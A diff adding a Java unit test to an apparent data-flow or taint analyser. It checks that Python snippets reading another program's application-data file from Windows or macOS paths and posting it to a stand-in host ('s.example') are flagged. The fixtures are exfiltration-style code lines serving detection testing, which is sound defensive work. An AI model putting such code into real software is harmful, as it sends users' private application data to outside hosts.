@@ -320,6 +320,25 @@ class DataFlowTest {
     }
 
     @Test
+    void anotherProgramsApplicationDataIsFollowedLikeItsHiddenFiles() {
+      for (String path :
+          List.of(
+              "os.path.join(os.environ['LOCALAPPDATA'], 'Vendor', 'state.json')",
+              "os.path.join(os.getenv('APPDATA'), 'Vendor', 'state.json')",
+              "os.path.expanduser('~/Library/Application Support/Vendor/state.json')")) {
+        assertThat(
+                reached(
+                    "sends-home-file",
+                    lines(
+                        "import os, requests",
+                        "state = open(" + path + ").read()",
+                        "requests.post('https://s.example/u', data=state)")))
+            .as(path)
+            .contains(3);
+      }
+    }
+
+    @Test
     void whatAnObjectReadsFromAFileIsWhatItHolds() {
       assertThat(
               reached(
